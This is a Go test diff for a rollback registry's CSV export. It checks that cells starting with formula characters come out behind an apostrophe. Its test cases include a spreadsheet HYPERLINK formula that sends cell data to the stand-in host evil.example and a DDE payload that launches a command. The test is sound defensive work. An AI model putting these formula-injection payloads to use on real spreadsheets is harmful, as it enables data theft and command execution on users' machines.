@@ -174,6 +174,38 @@ func TestRegistryCSV(t *testing.T) {
 	}
 }
 
+// TestRegistryCSVHoldsNoFormulas: a CSV export opened in a spreadsheet
+// runs no formula an alert sent in (a trigger link "=HYPERLINK(…)"); the
+// cell reads as the text it was, behind an apostrophe.
+func TestRegistryCSVHoldsNoFormulas(t *testing.T) {
+	tests := []struct {
+		link, want string
+	}{
+		{`=HYPERLINK("https://evil.example/?"&A1,"details")`, `'=HYPERLINK("https://evil.example/?"&A1,"details")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(1,2)", "'@SUM(1,2)"},
+		{"https://pd.example/incidents/Q1", "https://pd.example/incidents/Q1"},
+	}
+	for _, tc := range tests {
+		srv, _, st := newAPIStore(t)
+		r := &rollback.Record{ID: "RB-1", State: rollback.StateSucceeded, CreatedAt: t0,
+			Trigger: rollback.Trigger{Kind: "alert", URL: tc.link}, Services: []rollback.ServiceChange{{Service: "api"}}}
+		if err := st.CreateRollback(t.Context(), r); err != nil {
+			t.Fatal(err)
+		}
+		code, body := call(t, srv, "GET", "/api/v1/rollbacks?format=csv", token, "")
+		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if code != http.StatusOK || err != nil || len(rows) != 2 {
+			t.Fatalf("%d %v %q", code, err, body)
+		}
+		link := rows[1][slices.Index(rows[0], "link")]
+		if link != tc.want {
+			t.Errorf("link cell %q, want %q", link, tc.want)
+		}
+	}
+}
+
 // TestDeployPages: a service's deploys page by page.
 func TestDeployPages(t *testing.T) {
 	srv, _, st := newAPIStore(t)
